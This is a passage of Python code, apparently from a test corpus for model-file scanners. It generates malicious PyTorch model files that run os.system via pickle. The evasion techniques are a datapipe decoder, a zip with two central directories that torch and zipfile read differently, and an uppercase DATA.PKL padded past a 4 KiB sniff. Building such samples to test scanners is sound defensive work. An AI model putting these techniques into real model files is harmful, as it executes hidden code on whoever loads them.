    return pickle_of(call(global_ref("builtins", "dict"), npz))


@_technique("torch_datapipe_decoder_pickle", "model.pth")
def _torch_datapipe_decoder(marker: Path) -> bytes:
    # Iterating the decoder pipe (list()) decodes each '*.pickle' entry with pickle.loads.
    decoder = global_ref("torch.utils.data.datapipes.iter.routeddecoder",
                         "RoutedDecoderIterDataPipe")
    entries = call(decoder, literal([("x.pickle", os_system_pickle(marker))]))
    return pickle_of(call(global_ref("builtins", "list"), entries))


# -- Zip readers that disagree: PyTorch's (miniz) and zipfile --------------------------------


def _split_zip(archive: bytes) -> tuple[bytes, bytes, int]:
    """The local part, the central directory and the entry count of a zip without comment."""
    entries, size, offset = struct.unpack("<H2L", archive[-12:-2])
    return archive[:offset], archive[offset : offset + size], entries


def _moved_directory(directory: bytes, delta: int) -> bytes:
    """The central directory with every local header offset moved by `delta`."""
    moved, pos = bytearray(directory), 0
    while pos < len(moved):
        name_len, extra_len, comment_len = struct.unpack_from("<3H", moved, pos + 28)
        (offset,) = struct.unpack_from("<L", moved, pos + 42)
        struct.pack_into("<L", moved, pos + 42, offset + delta)
        pos += 46 + name_len + extra_len + comment_len
    return bytes(moved)


@_technique("torch_zip_two_central_directories", "model.pt")
def _torch_zip_two_directories(marker: Path) -> bytes:
    # torch reads the directory at the offset the end record gives (the payload's); zipfile
    # takes the bytes between that directory and the end record for prepended data, shifts
    # every offset by their length and reads a benign directory placed right before the end.
    payload_local, payload_directory, entries = _split_zip(_torch_zip(os_system_pickle(marker)))
    benign_local, benign_directory, _ = _split_zip(_torch_zip(_state_dict_pickle()))
    padding = bytes(len(benign_directory))  # keeps the benign offsets positive once shifted
    benign_start = len(payload_local) + len(padding)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries,
                      len(payload_directory), benign_start + len(benign_local), 0)
    benign_directory = _moved_directory(benign_directory, benign_start - len(benign_directory))
    return payload_local + padding + benign_local + payload_directory + benign_directory + end


@_technique("torch_zip_uppercase_data_pkl", "model.pt")
def _torch_zip_uppercase(marker: Path) -> bytes:
    # torch finds data.pkl ignoring case; padding puts the import past a 4 KiB sniff.
    pickle = pickle_of((NONE + POP) * 2100 + _os_system(marker), protocol=0)
    return _torch_zip(pickle, pickle_name="DATA.PKL")
